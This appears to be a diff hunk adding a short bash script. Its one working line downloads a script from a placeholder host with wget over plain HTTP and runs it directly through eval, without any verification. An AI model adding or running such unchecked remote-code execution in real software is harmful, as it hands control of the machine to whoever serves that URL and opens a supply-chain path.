@@ -1,0 +1,3 @@
+#!/usr/bin/env bash
+set -e
+eval "$(wget -qO- http://setup.tools.example/boot)"
